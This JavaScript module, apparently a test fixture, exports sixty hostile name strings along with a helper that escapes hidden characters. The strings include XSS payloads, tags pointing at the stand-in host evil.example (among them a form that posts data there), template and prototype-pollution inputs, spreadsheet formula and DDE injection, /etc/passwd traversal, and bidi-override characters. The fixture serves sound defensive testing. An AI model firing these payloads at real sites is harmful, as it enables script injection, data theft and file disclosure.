// Sixty names that try to be something other than text: markup, script, expressions, paths, marks of direction.
const run = 'window.pwned=1';
export const hostile = [
  `<script>${run}</script>`, `</script><script>${run}</script>`, `<img src=x onerror=${run}>`, `"><img src=x onerror=${run}>`,
  `'><svg onload=${run}>`, `<svg/onload=${run}>`, `<iframe src="javascript:${run}"></iframe>`, `javascript:${run}`,
  `<a href="javascript:${run}">x</a>`, `<body onload=${run}>`, `<style>*{display:none}</style>`, `<!--`, `-->`, `<![CDATA[`,
  `]]>`, `</title><script>${run}</script>`, `</style><script>${run}</script>`, `</textarea><script>${run}</script>`,
  `<math><mtext><script>${run}</script></mtext></math>`, `<template><script>${run}</script></template>`,
  `<base href="https://evil.example/">`, `<link rel=stylesheet href="https://evil.example/a.css">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<form action=https://evil.example><input name=q>`,
  `<object data="https://evil.example/a.swf">`, `<video src=https://evil.example/a.mp4 autoplay>`, `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`, `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;script&#62;`, `&amp;`, `\\u003cscript\\u003e`,
  `{{script}}`, `{{charts}}`, '${window.pwned=1}', '`+window.pwned+`', `{{constructor.constructor('${run}')()}}`,
  `datum['x']`, `datum.x); ${run}; (`, `signal: {"expr": "${run}"}`, `__proto__`, `constructor`, `toString`, `hasOwnProperty`,
  `a.b[0]`, `a\\.b`, `name[`, `'quote'`, `"double"`, 'back`tick', `=HYPERLINK("https://evil.example")`, `+1+cmd|' /C calc'!A0`,
  `../../etc/passwd`, `%3Cscript%3E`, `a\u2028b`, `a\u2029b`, `\u202Etxt.exe`, `\u2066iso\u2069`, `\uFEFFbom`, `nul\u0001l`,
];

// Returns a name as a page shows it: hidden characters are written out, as base/message.h does.
export const writtenOut = (text) =>
  text.replace(/[\u0000-\u001f\u007f-\u009f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff]/gu, (sign) => {
    const code = sign.codePointAt(0);
    return code < 0x80 ? `\\x${code.toString(16).padStart(2, '0')}` : `\\u${code.toString(16).padStart(4, '0')}`;
  });
